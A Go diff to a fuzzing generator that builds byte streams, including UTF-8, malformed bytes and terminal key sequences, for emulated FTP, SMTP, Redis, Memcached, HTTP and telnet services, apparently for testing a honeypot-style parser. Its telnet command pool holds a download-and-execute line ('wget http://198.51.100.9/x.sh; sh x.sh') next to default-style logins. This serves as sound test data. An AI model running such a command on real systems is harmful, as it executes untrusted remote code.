@@ -24,7 +24,7 @@ func crlf(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n" 
 // ---- per-protocol grammars ----
 func ftpStream(r *hx.Rand) stream {
 	pool := []string{"USER anonymous", "PASS guest@example.org", "SYST", "PWD", "NOOP", "TYPE I", "MODE S", "STRU F",
-		"noop", "XYZZY plugh", "OPTS UTF8 ON", "USER  spaced  name ", "", "PASS", "HELP", "REST 0", "ALLO 10", "SITE CHMOD 777 x"}
+		"noop", "XYZZY plugh", "OPTS UTF8 ON", "USER caf\u00e9", "PASS \u20ac\U0001F600", "CWD /\u65e5\u672c\u8a9e/\u00fc", "MKD bad\xff\x80\xc3", "USER  spaced  name ", "", "PASS", "HELP", "REST 0", "ALLO 10", "SITE CHMOD 777 x"}
 	s := stream{svc: "ftp"}
 	n := r.Range(1, 6)
 	for i := 0; i < n; i++ {
@@ -55,7 +55,7 @@ func mailText(r *hx.Rand) []string {
 	case 1: // not a message at all
 		return []string{"just some text without a header"}
 	default:
-		ls = append(ls, "Subject: "+r.PickStr([]string{"hello", "Re: your order", "x"}))
+		ls = append(ls, "Subject: "+r.PickStr([]string{"hello", "Re: your order", "x", "h\u00e9llo w\u00f6rld \u20ac", "\U0001F600"}))
 		if r.Bool() {
 			ls = append(ls, "From: a@example.org")
 		}
@@ -64,7 +64,7 @@ func mailText(r *hx.Rand) []string {
 		}
 		ls = append(ls, "")
 	}
-	body := []string{"first line", "..leading dot", ". dot and text", "", "lone \r inside", "..", "tab\there", "last"}
+	body := []string{"Gr\u00fc\u00dfe aus K\u00f6ln \u20ac", "\U0001F600 \u65e5\u672c", ".\u00e9 dot then two bytes", "bad \xc3\x28 \xff bytes", "first line", "..leading dot", ". dot and text", "", "lone \r inside", "..", "tab\there", "last"}
 	n := r.Range(0, 4)
 	for i := 0; i < n; i++ {
 		ls = append(ls, r.PickStr(body))
@@ -156,7 +156,7 @@ func redisStream(r *hx.Rand) stream {
 		case 1:
 			s.units = append(s.units, resp("info", r.PickStr([]string{"server", "all", "nope"})))
 		case 2:
-			s.units = append(s.units, resp("SET", "key", "value with space"))
+			s.units = append(s.units, resp("SET", r.PickStr([]string{"key", "cl\u00e9", "\U0001F511"}), r.PickStr([]string{"value with space", "valeur \u20ac\U0001F600", "\xff\x80 \xe2\x82"})))
 		case 3:
 			s.units = append(s.units, resp("PING"))
 		case 4:
@@ -194,7 +194,7 @@ func memcachedStream(r *hx.Rand, storage bool) stream {
 		}
 		switch k {
 		case 0:
-			s.units = append(s.units, "get "+r.PickStr([]string{"k", "foo bar", "a"})+"\r\n")
+			s.units = append(s.units, "get "+r.PickStr([]string{"k", "foo bar", "a", "cl\u00e9 \u20ac", "\U0001F511", "\xc3\xff"})+"\r\n")
 		case 1:
 			s.units = append(s.units, "stats\r\n")
 		case 2:
@@ -206,7 +206,7 @@ func memcachedStream(r *hx.Rand, storage bool) stream {
 		case 5:
 			s.units = append(s.units, "touch k 0\r\n")
 		case 6, 7:
-			data := r.PickStr([]string{"abc", "", "hello world", "line1\r\nline2", strings.Repeat("0123456789", 9)})
+			data := r.PickStr([]string{"abc", "", "hello world", "line1\r\nline2", "h\u20acllo \U0001F600", "\xf0\x9f\x98\r\n\x80", strings.Repeat("0123456789", 9)})
 			s.units = append(s.units, fmt.Sprintf("%s %s 0 0 %d\r\n%s\r\n", r.PickStr([]string{"set", "add", "replace", "append", "prepend"}), r.PickStr([]string{"k", "key2"}), len(data), data))
 		case 8:
 			s.units = append(s.units, "cas k 0 0 3 77\r\nxyz\r\n")
@@ -259,7 +259,7 @@ func httpStream(r *hx.Rand, svc string, nreq int, bodies bool) stream {
 		}
 		if bodies && r.Chance(2, 3) {
 			q.method = r.PickStr([]string{"POST", "PUT", "POST"})
-			q.body = r.PickStr([]string{"a=1&b=2", "x", `{"k":"v"}`, strings.Repeat("payload-", 12)})
+			q.body = r.PickStr([]string{"a=1&b=2", "x", `{"k":"v"}`, strings.Repeat("payload-", 12), "name=caf\u00e9&sum=\u20ac5 \U0001F600", "raw=\xff\xc3\x80"})
 		}
 		switch svc {
 		case "ethereum":
@@ -396,16 +396,53 @@ func redisBoundary(r *hx.Rand, arity, pos int, kind string) stream {
 
 var redisKinds = []string{"empty-bulk", "null-bulk", "empty-array", "null-array", "empty-line", "one-byte", "bulk-with-space", "integer", "simple"}
 
-// ---- telnet: plain input (bytes below 128, no ESC, no ^W) ----
+// ---- multi-byte UTF-8: characters of 2, 3 and 4 bytes incl. the first and last of every range ----
+var utf8Words = []string{"caf\u00e9", "na\u00efve", "\u20acuro", "\u65e5\u672c\u8a9e", "\U0001F600", "a\u00f1\u20ac\U0001F600z", "\u03a9mega",
+	"\u0080\u07ff", "\u0800\ud7ff\ue000\uffff", "\U00010000\U0010ffff", "\u00fc\u00f6\u00e4\u00df"}
+
+// undecodable: lone continuation bytes, truncated sequences, overlong forms, surrogates, beyond
+// U+10FFFF, bytes that never occur, a sequence broken by an ASCII byte - and U+FFFD itself
+var badUTF8 = []string{"\x80", "\xbf", "\xc3", "\xe2\x82", "\xf0\x9f\x98", "\xc0\x80", "\xc1\xbf", "\xe0\x80\x80", "\xe0\x9f\xbf",
+	"\xf0\x80\x80\x80", "\xf0\x8f\xbf\xbf", "\xed\xa0\x80", "\xed\xbf\xbf", "\xf4\x90\x80\x80", "\xf5", "\xff", "\xfe", "\xef\xbf\xbd",
+	"\xc3\x28", "\xe2\x28\xa1", "\xf0\x9f\x28\x80"}
+
+func utf8Text(r *hx.Rand, n int) string {
+	var ws []string
+	for i := 0; i < n; i++ {
+		ws = append(ws, r.PickStr(utf8Words))
+	}
+	return strings.Join(ws, " ")
+}
+
+// text that is not valid UTF-8 (at least one undecodable sequence between decodable words)
+func badText(r *hx.Rand, n int) string {
+	s := r.PickStr([]string{"", "x", "caf\u00e9"})
+	for i := 0; i < n; i++ {
+		s += r.PickStr(badUTF8) + r.PickStr([]string{"", "y", " z", "\u20ac"})
+	}
+	return s
+}
+
+// ---- telnet: input as a terminal sends it - text in UTF-8, editing keys, escape sequences ----
+var telnetKeys = []string{"\x1b[A", "\x1b[B", "\x1b[C", "\x1b[D", "\x1b[H", "\x1b[F", "\x1b[1;3C", "\x1b[1;3D", "\x1b[5~", "\x1bOP", "\x1b[1;5A", "\x1b[3~", "\x17", "\x0c"}
+
 func telnetStream(r *hx.Rand) stream {
 	s := stream{svc: "telnet"}
 	eol := func() string { return r.PickStr([]string{"\r\n", "\r\n", "\r\n", "\n", "\r\x00\n", "\r\r\n"}) }
-	s.units = append(s.units, r.PickStr([]string{"root", "admin", "", "user name"})+eol())
-	s.units = append(s.units, r.PickStr([]string{"secret", "123456", "", "p@ss w0rd"})+eol())
+	s.units = append(s.units, r.PickStr([]string{"root", "admin", "", "user name", "r\u00f4\u00f4t", "\u7ba1\u7406\u5458"})+eol())
+	s.units = append(s.units, r.PickStr([]string{"secret", "123456", "", "p@ss w0rd", "p\u00e4ssw\u00f6rd\u20ac", "\U0001F511\U0001F511"})+eol())
 	n := r.Range(0, 4)
 	for i := 0; i < n; i++ {
 		cmd := r.PickStr([]string{"uname -a", "cat /proc/cpuinfo", "", "wget http://198.51.100.9/x.sh; sh x.sh", "ls", "enable", "sh",
 			"lss\x7f -l", "typo\x08\x08\x08\x08echo ok", "discard this\x15id", "abc\x01X\x05Z", "keep\x0bdropped?", "ab\x01\x04c", "bell\x07tab\there", "x\x0cy"})
+		switch r.Intn(5) {
+		case 0: // text in UTF-8
+			cmd = "echo " + utf8Text(r, r.Range(1, 3))
+		case 1: // UTF-8 and editing keys: the cursor moves over whole characters
+			cmd = utf8Text(r, 2) + r.PickStr([]string{"\x7f", "\x08\x08", "\x17", "\x01\u00bb", "\x1b[D\x1b[D\u2192", "\x1b[1;3D<\x1b[1;3C>", "\x1b[H\x04", "\x0b"}) + r.PickStr(utf8Words)
+		case 2: // key sequences
+			cmd = "ls" + r.PickStr(telnetKeys) + " -l" + r.PickStr(telnetKeys) + r.PickStr([]string{"", "a", "\u00e9"})
+		}
 		s.units = append(s.units, cmd+eol())
 	}
 	switch r.Intn(5) {
@@ -415,6 +452,82 @@ func telnetStream(r *hx.Rand) stream {
 		s.tail = r.PickStr([]string{"unfinished", "exit\r", "\r"})
 	}
 	return s
+}
+
+// undecodable bytes in a telnet session (the terminal skips them where they stand)
+func telnetMalformed(r *hx.Rand) stream {
+	s := stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n"}}
+	n := r.Range(1, 3)
+	for i := 0; i < n; i++ {
+		s.units = append(s.units, r.PickStr([]string{"echo ", "", "cat "})+badText(r, r.Range(1, 2))+r.PickStr([]string{"\r\n", "\n", "\r\n"}))
+	}
+	s.units = append(s.units, "id\r\n")
+	return s
+}
+
+// a character (or key sequence) seq placed so that it starts [before] bytes ahead of position [at]
+// of the write that carries it: the terminal's input buffer takes 256 bytes per Read
+func telnetStraddle(seq string, before, at int) stream {
+	login := "root\r\nsecret\r\n"
+	head := "echo "
+	pad := at - before - len(login) - len(head)
+	return stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", head + strings.Repeat("x", pad) + seq + " tail\r\n", "id\r\n"}}
+}
+
+func telnetCorpus(r *hx.Rand) (every []stream, sampled []stream, straddle []Input) {
+	login := []string{"r\r\n", "s\r\n"}
+	with := func(units ...string) stream { return stream{svc: "telnet", units: append(append([]string{}, login...), units...)} }
+	// characters of 2, 3 and 4 bytes; every cut inside every character
+	every = append(every, with("echo caf\u00e9 \u20ac \U0001F600 > /tmp/x\r\n", "uname -a\r\n", "\u0080\u07ff\u0800\uffff\U00010000\U0010ffff\r\n"))
+	// cursor keys, word keys, unknown sequences; every cut inside every sequence
+	every = append(every, with("ls\x1b[D\x1b[Da\x1b[Cb\r\n", "ab cd\x1b[1;3Dx\x1b[1;3Cy\x1b[Hz\x1b[Fw\r\n", "o\x1b[A\x1b[Bt\x1b[5~\x1bOPq\x1b[1;5Cr\r\n", "d w\x17\x0cX\u00e9\x1b[D\x7f\r\n"))
+	// bracketed paste: control bytes and sequences inside are text; a line pasted as a whole ends the session
+	every = append(every, with("a\x1b[200~p \x01\x1b[A\u20ac\x1b[201~ t\r\n", "\x1b[201~x\r\n", "\x1b[200~all pasted\r\n", "after\r\n"))
+	// undecodable bytes: lone continuation byte, truncated at the end of the line, overlong forms,
+	// 0xff, a surrogate, U+FFFD, beyond U+10FFFF - each followed by further commands
+	every = append(every, with("a\x80b\r\n", "caf\xc3\r\n", "x\xc0\x80y\r\n", "\xe0\x80\x80z\r\n", "q\xffr\r\n", "s\xed\xa0\x80t\r\n", "u\xef\xbf\xbdv\r\n", "\xf4\x90\x80\x80w\xf0\x9f\x98\r\n", "ok\r\n"))
+	// long pipelined sessions full of multi-byte characters: the 256-byte reads end inside them
+	long1 := with()
+	for i := 0; i < 14; i++ {
+		long1.units = append(long1.units, "echo "+utf8Text(r, r.Range(3, 6))+"\r\n")
+	}
+	long2 := with("echo "+strings.Repeat("\u00e9\u20ac\U0001F600", 150)+"\r\n", "id\r\n")
+	// an escape sequence that never ends fills the input buffer and is dropped; one that ends late
+	esc1 := with("\x1b["+strings.Repeat("1;", 150)+"\r\n", "id\r\n")
+	esc2 := with("a\x1b["+strings.Repeat("0", 200)+"mb\r\n", "\x1b\x1b\x1b[\x1b[Dc\r\n", "id\r\n")
+	// undecodable bytes in a long write: what is behind them is read with the next 256 bytes
+	bad1 := with("a\xffb"+strings.Repeat("p", 300)+"\xffc\r\n", "\x80id\r\n", "ok\r\n")
+	sampled = []stream{long1, long2, esc1, esc2, bad1}
+	// a character / key sequence across the end of the first 256-byte Read of a write, at every
+	// position inside it: the whole session in one write, and in two (the second one carries it)
+	for _, seq := range []string{"\u00e9", "\u20ac", "\U0001F600", "\x1b[1;3D", "\x1b[D"} {
+		for o := 1; o < len(seq); o++ {
+			straddle = append(straddle, telnetStraddle(seq, o, 256).input("whole", nil, nil))
+			straddle = append(straddle, telnetStraddle(seq, o, 256+9).input("cut1", []int{9}, nil))
+		}
+	}
+	return
+}
+
+// the line-oriented services with arguments in UTF-8 (2-, 3-, 4-byte characters) and, as streams of
+// their own, undecodable bytes: every byte must arrive in the event as it was sent
+func utf8Corpus() []stream {
+	good, bad := "caf\u00e9 \u20ac\U0001F600", "\x80\xc3\xe2\x82 \xc0\x80\xff\xed\xa0\x80\xf0\x9f\x98"
+	var out []stream
+	for _, a := range []string{good, bad} {
+		out = append(out,
+			stream{svc: "ftp", units: []string{"USER " + a + "\r\n", "CWD /" + a + "\r\n", "QUIT\r\n"}},
+			stream{svc: "smtp", units: []string{"EHLO c\r\n", "MAIL FROM:<" + a + "@example.org>\r\n", "DATA\r\n",
+				"Subject: " + a + "\r\n\r\n." + a + "\r\n.\r\n", "QUIT\r\n"}},
+			stream{svc: "smtp", units: []string{"HELO c\r\n", "MAIL FROM:<a@b>\r\n", fmt.Sprintf("BDAT %d LAST\r\n", len("Subject: s\r\n\r\n")+len(a)) + "Subject: s\r\n\r\n" + a, "NOOP " + a + "\r\n"}},
+			stream{svc: "redis", units: []string{resp("SET", a, "v"), resp(a)}},
+			stream{svc: "memcached", units: []string{"get " + a + "\r\n", fmt.Sprintf("set k 0 0 %d\r\n%s\r\n", len(a), a), "get k\r\n"}},
+			stream{svc: "http", units: []string{
+				httpReq{method: "POST", path: "/caf%C3%A9?q=%E2%82%AC", host: "h", headers: []string{"X-Name: " + a}, body: "name=" + a}.String(),
+				"GET /after HTTP/1.1\r\nHost: h\r\n\r\n"}},
+		)
+	}
+	return out
 }
 
 // ---- ldap: BER by hand ----
@@ -847,8 +960,27 @@ func singleCuts(s stream, r *hx.Rand, sample int) []Input {
 		add(pos + 1)
 		add(pos - 2)
 	}
+	// positions inside multi-byte sequences (before a continuation byte), up to a third of the sample
+	inside := 0
+	for k, b := range s.bytes() {
+		if b >= 0x80 && b <= 0xbf && inside < sample/3 && !seen[k] {
+			add(k)
+			inside++
+		}
+	}
 	for i := 0; i < 4*sample && len(out) < sample; i++ {
 		add(r.Range(1, total-1))
+	}
+	return out
+}
+
+// every single cut that falls inside a multi-byte sequence (before a continuation byte)
+func insideCuts(s stream) []Input {
+	var out []Input
+	for k, b := range s.bytes() {
+		if k >= 1 && b >= 0x80 && b <= 0xbf {
+			out = append(out, s.input("cut1", []int{k}, nil))
+		}
 	}
 	return out
 }
@@ -941,6 +1073,9 @@ func datagrams(r *hx.Rand, n int) []Input {
 // ---- the run ----
 func generate(r *hx.Rand, tier string) []Input {
 	var ins []Input
+	// first: the witness of the telnet defect repaired in 1a2f0db (the input behind an undecodable
+	// byte was only looked at when the next Read returned: in one write nothing was reported)
+	ins = append(ins, expand(stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", "abc\xffdef\r\n", "id\r\n"}}, r, true, 0)...)
 	// corpus: the witnesses of the known defects and the plain dialogues, every cut point
 	mc := stream{svc: "memcached", units: []string{"set k 0 0 3\r\nabc\r\n", "get k\r\n"}}
 	h2 := stream{svc: "http", units: []string{"GET /a HTTP/1.1\r\nHost: h\r\n\r\n", "GET /b HTTP/1.1\r\nHost: h\r\n\r\n"}}
@@ -963,6 +1098,27 @@ func generate(r *hx.Rand, tier string) []Input {
 		ins = append(ins, expand(s, r, true, 0)...)
 	}
 	ins = append(ins, Input{Svc: "dns", Stream: dnsQuery(4660, "example.org"), Mode: "datagram"})
+
+	// multi-byte characters and key sequences cut by read boundaries (telnet decodes keys itself;
+	// the line-oriented services must pass the bytes through)
+	tevery, tsampled, tstraddle := telnetCorpus(r)
+	for _, s := range tevery {
+		ins = append(ins, expand(s, r, true, 0)...)
+	}
+	for _, s := range tsampled {
+		ins = append(ins, expand(s, r, false, 10)...)
+	}
+	ins = append(ins, tstraddle...)
+	for _, s := range utf8Corpus() {
+		if tier != "quick" {
+			ins = append(ins, expand(s, r, true, 0)...)
+			continue
+		}
+		// every cut INSIDE a multi-byte sequence, the whole stream, one multi-cut, the dribble
+		ins = append(ins, s.input("whole", nil, nil))
+		ins = append(ins, insideCuts(s)...)
+		ins = append(ins, multicut(s, r), dribble(s))
+	}
 
 	// smtp: interruption of a BDAT transaction at every point, by RSET and by everything else
 	for pos := 1; pos <= 4; pos++ {
@@ -1016,6 +1172,9 @@ func generate(r *hx.Rand, tier string) []Input {
 		ins = append(ins, expand(smtpStream(r), r, ex, sample)...)
 		ins = append(ins, expand(redisStream(r), r, ex, sample)...)
 		ins = append(ins, expand(telnetStream(r), r, true, 0)...)
+		if i%4 == 3 {
+			ins = append(ins, expand(telnetMalformed(r), r, tier != "quick", 16)...)
+		}
 		ins = append(ins, expand(ldapStream(r), r, ex, sample+6)...)
 		ins = append(ins, expand(memcachedStream(r, i%2 == 1), r, ex, sample)...)
 		ins = append(ins, expand(httpStream(r, "http", r.Range(1, 3), i%2 == 1), r, ex, sample)...)
